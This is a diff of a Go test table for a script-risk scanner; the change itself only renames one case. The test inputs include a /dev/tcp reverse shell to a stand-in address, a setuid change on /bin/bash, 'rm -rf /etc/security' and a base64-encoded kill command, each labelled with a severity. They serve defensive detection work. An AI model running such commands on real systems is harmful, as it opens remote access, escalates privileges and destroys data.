@@ -48,7 +48,7 @@ func TestASignCountsWhateverTheLengthOfTheProgram(t *testing.T) {
 		{"a weak one on the line of another kind", "a.py", py(0, strings.TrimSpace(install)+"; "+read), "package-install/python", gate.SeverityNote},
 		{"beside what is dangerous", "a.sh", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), "reverse-shell/shell-device", gate.SeverityDangerous},
 		{"one that more is known about", "a.sh", script(300, "chmod u+s /bin/bash"), "privilege/shell-permissions", gate.SeverityDangerous},
-		{"one whose path stands in a variable", "a.sh", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", "file-write/shell-system-file", gate.SeverityNote},
+		{"one whose path is in a variable", "a.sh", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", "file-write/shell-system-file", gate.SeverityNote},
 		{"one that can't be undone", "a.sh", script(300, "rm -rf /etc/security"), "deletion/shell-system-file", gate.SeveritySuspicious},
 		{"one that is encoded", "a.sh", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), "process/shell-kill", gate.SeveritySuspicious},
 	} {
